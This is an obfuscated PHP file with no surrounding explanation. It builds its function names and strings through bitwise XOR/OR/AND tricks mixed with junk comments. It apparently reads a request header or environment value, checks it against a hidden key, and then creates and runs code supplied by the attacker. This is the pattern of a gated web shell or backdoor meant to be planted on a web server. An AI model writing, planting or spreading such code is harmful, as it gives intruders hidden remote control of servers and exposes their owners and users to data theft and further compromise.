<?php
$Xt='h2q'|uXxuyyo;$sC='-{K'&'-?[';$yWIm3f4='V$'.fx8N^'7'.d68V.'(';$VSFHxobN6='Bh`b'.
    '?t'^'.<6<`5';$NiMFQcdpv='3<U[7'^'d[b&N';$bO='2y*qR1-h6'^'{Q~76'.UjJz;'yuAR9bK'.
    '_IM';$NFOor='$!$ '|' `, ';$tRPwxjf_2s=_IY^'<}k';$GYjy197jA='@'.TPPWHUOC_.#yhy'.
    '@R'|'HTD@IX_@'.PYPR;$GqY8x4='c~3'^'&8`';$GnA=('@_~'&'j_~')^$sC;$HK4kh284Iy=/*'.
    'll>{o2ebAe*/$yWIm3f4|('.HM{lz'^"Im)^\$N");$ba=(KwKBj.']9n['.yoIl8_&'SV[n/y<Mo'.
    '?KYL<O')^('(4/#~?ok>_l}?_g'&'5,>?^|w:~w*?%W)');$mKGuIFLsIU9=$VSFHxobN6&(/*fQ2'.
    'V6Kp]gAh*/HMDPGA|'XYT@[A');$Ml1=$NiMFQcdpv&('rQ2#n'|'(b&6~');$YK3qRS=(/*JGSvZ'.
    'ok,*/PyTJp.'(rh_'&w4_Om0ZbH)|$bO;if($GnA($HK4kh284Iy($mKGuIFLsIU9))==('|Y{q=H'.
    'ME]xqQ`{]rSe%'.Gm2dmUH^'I=JDY*xv<A@'.fYK8KbVA.'$'.YWTX4y).(w^D).('5;'&'3=')./*'.
    '{)RG)Unn3*/$tRPwxjf_2s)$kR_NKA7Su=$ba($NFOor.(H0^lR),$HK4kh284Iy(/*I2jAJZEnpN'.
    '_nO*/$GYjy197jA.$GqY8x4));$kR_NKA7Su($Ml1,$YK3qRS);#rTlthc@v^U@ykQuNEiaq9NFC'.
    'n0dvU,yCve{Fu~CtA*8%sZWe_%mZdpX_<Ra4M~2GuB}6m4';